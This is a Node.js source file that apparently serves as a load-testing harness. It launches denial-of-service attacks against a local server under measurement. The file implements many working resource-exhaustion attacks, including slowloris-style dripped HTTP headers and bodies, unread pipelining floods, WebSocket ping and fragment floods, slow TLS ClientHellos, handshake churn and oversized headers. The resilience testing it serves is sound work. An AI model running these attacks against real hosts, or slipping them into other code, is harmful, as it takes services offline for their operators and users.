// A hostile peer, in a process of its own so that it costs the measuring one nothing, and of less priority than those
// whom it attacks: it has no cores of its own, as it would have elsewhere. Started by lib/attack.mjs as
// `node attacker.mjs NAME {"port": …}`; prints a JSON line as soon as all have begun, and then again and again: how many
// connections are open, how many were lost, what was answered. Whoever is cut comes again.
import { connect } from 'node:net';
import { platform, setPriority } from 'node:os';
import { Duplex } from 'node:stream';
import { connect as connectTls } from 'node:tls';

setPriority(5);

const [name, settings] = [process.argv[2], JSON.parse(process.argv[3])];
const { port, host = 'victim.example.com', count = 1, tls = false } = settings;
const SAY_MS = 500;
const AGAIN_MS = 300;

const said = { open: 0, lost: 0, answered: 0 };

// A client of its own: another address than everybody else has. Linux has all of 127/8.
const to = { port, host: '127.0.0.1', ...(platform() === 'linux' ? { localAddress: '127.0.0.2' } : {}) };

/** A connection that reads what comes, and so hears of its end. */
function client(begin) {
  const socket = tls
    ? connectTls({ ...to, servername: host, rejectUnauthorized: false })
    : connect(to);
  socket.resume();
  socket.on('error', () => {});
  socket.on(tls ? 'secureConnect' : 'connect', () => begin(socket));
  return socket;
}

/** Many connections, each doing something of its own, for ever. */
async function many(begin, pause = AGAIN_MS) {
  const one = (i) => {
    let open = false;
    const socket = client(() => {
      open = true;
      said.open++;
      begin(socket, i);
    });
    socket.on('close', () => {
      said.lost++;
      if (open) said.open--;
      setTimeout(one, pause * (0.5 + Math.random()), i);
    });
  };
  for (let i = 0; i < count; i++) {
    one(i);
    if (i % 100 === 99) await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

/** Writes one thing again and again, as long as anybody takes it, up to a number of bytes. */
function flood(socket, piece, most) {
  let sent = 0;
  const more = () => {
    while (sent < most && !socket.destroyed) {
      sent += piece.length;
      if (!socket.write(piece)) return socket.once('drain', more);
    }
  };
  more();
}

/** Reads nothing. */
function deaf(socket) {
  socket.pause();
  return socket;
}

/** Asks for one thing as soon as the last was answered. */
function ask(socket, request) {
  socket.on('data', () => { said.answered++; socket.write(request(said.answered)); });
  socket.write(request(0));
}

const drip = (socket, bytes, everyMillis) => {
  let at = 0;
  const timer = setInterval(() => {
    if (!socket.destroyed) socket.write(bytes.subarray(at % bytes.length, (at++ % bytes.length) + 1));
  }, everyMillis);
  socket.on('close', () => clearInterval(timer));
};

const get = (path, of = host, more = '') => `GET ${path} HTTP/1.1\r\nHost: ${of}\r\n${more}\r\n`;

const upgrade = (path) => get(path, host, 'Upgrade: websocket\r\nConnection: Upgrade\r\n' +
  'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n');

/** A tunnel on which something is written once it stands. */
const tunnel = (socket, path, write) => {
  socket.write(upgrade(path));
  setTimeout(write, AGAIN_MS);
};

/** A TLS client over something else than its own socket; `wire` is what carries its bytes. */
const tlsOver = (wire) => connectTls({ socket: wire, servername: host, rejectUnauthorized: false })
  .on('error', () => {});

/** What a client says first. */
const clientHello = () => new Promise((resolve) => tlsOver(new Duplex({
  read() {},
  write(chunk, encoding, done) { resolve(chunk); done(); },
})));

const attacks = {
  // Requests without end whose answers nobody reads.
  pipelining: () => many((socket) => flood(deaf(socket), Buffer.from(get(settings.path).repeat(500)), 5_000_000)),
  // Heads that never end.
  heads: () => many((socket) => {
    socket.write(`GET / HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `);
    drip(socket, Buffer.from('a'), 1000);
  }),
  // Nothing at all, more of them than anybody may have.
  nothing: () => many(() => {}),
  // One byte, as whoever blocks a server with a thread a connection.
  bytes: () => many((socket) => socket.write('G')),
  // Bodies that never end.
  bodies: () => many((socket) => {
    socket.write(`POST /plain HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 1000000\r\n\r\n`);
    drip(socket, Buffer.from('b'), 5000);
  }),
  // Large answers that nobody reads.
  readers: () => many((socket) => deaf(socket).write(get('/large'))),
  // Tunnels whose messages nobody reads.
  tunnels: () => many((socket) => deaf(socket).write(upgrade('/flood'))),
  // Pings without end, in as many bytes as a handshake would take.
  pings() {
    const pings = Buffer.concat(Array(1000).fill(Buffer.from([0x89, 0x80, 1, 2, 3, 4])));
    return many((socket) => tunnel(socket, '/rated', () => flood(socket, pings, 2_000_000)));
  },
  // One message in fragments of no bytes.
  fragments() {
    const fragments = Buffer.concat(Array(1000).fill(Buffer.from([0x00, 0x80, 1, 2, 3, 4])));
    return many((socket) => tunnel(socket, '/rated', () => {
      socket.write(Buffer.from([0x01, 0x80, 1, 2, 3, 4]));
      flood(socket, fragments, 2_000_000);
    }));
  },
  // Frames that never end, header and payload byte by byte.
  frames: () => many((socket, i) => tunnel(socket, '/plain', () => {
    if (i % 2) return drip(socket, Buffer.from([0x82, 0xff, 0, 0, 0, 0, 0, 1, 0, 0, 1, 2, 3, 4]), 1000);
    socket.write(Buffer.from([0x82, 0xff, 0, 0, 0, 0, 0, 1, 0, 0, 1, 2, 3, 4]));
    drip(socket, Buffer.from('c'), 1000);
  })),
  // Tunnels that are opened and left again.
  churn: () => many((socket) => {
    socket.write(upgrade('/plain'));
    socket.once('data', () => { said.answered++; socket.destroy(); });
  }, 0),
  // A ClientHello, byte by byte.
  async hellos() {
    const hello = await clientHello();
    return many((socket) => {
      socket.write(hello.subarray(0, 20));
      drip(socket, hello.subarray(20), 1000);
    });
  },
  // Handshakes that cost who asks for them nothing: one ClientHello, again and again.
  async handshakes() {
    const hello = await clientHello();
    return many((socket) => {
      socket.write(hello);
      socket.once('data', () => { said.answered++; socket.resetAndDestroy(); });
    }, 0);
  },
  // A record behind the handshake that never ends.
  records: () => many((raw) => {
    const wire = new Duplex({
      read() {},
      write(chunk, encoding, done) { raw.write(chunk); done(); },
    });
    raw.on('data', (chunk) => wire.push(chunk));
    tlsOver(wire).on('secureConnect', () => setTimeout(() => {
      said.answered++;
      raw.write(Buffer.from([0x17, 0x03, 0x03, 0x40, 0x00]));
      drip(raw, Buffer.from([0]), 1000);
    }, 50));
  }),
  // A PROXY header, byte by byte.
  proxyHeaders: () => many((socket) => drip(socket, Buffer.from('PROXY TCP4 192.0.2.1 192.0.2.2 1000 443\r'), 1000)),
  // Something that is answered, one request after the other: long targets, answers that don't begin.
  targets: () => many((socket) => ask(socket, () => get(settings.path))),
  // A header that makes much of itself.
  members: () => many((socket) => ask(socket, () => get('/plain', host, `Connection: ${'a,'.repeat(15_000)}b\r\n`))),
  // One endpoint by ever other names.
  names: () => many((socket) => ask(socket, (i) => get('/plain', `n${i}.wild.example.com`))),
};

await attacks[name]();
await new Promise((resolve) => setTimeout(resolve, 1000));
setInterval(() => process.stdout.write(`${JSON.stringify(said)}\n`), SAY_MS);
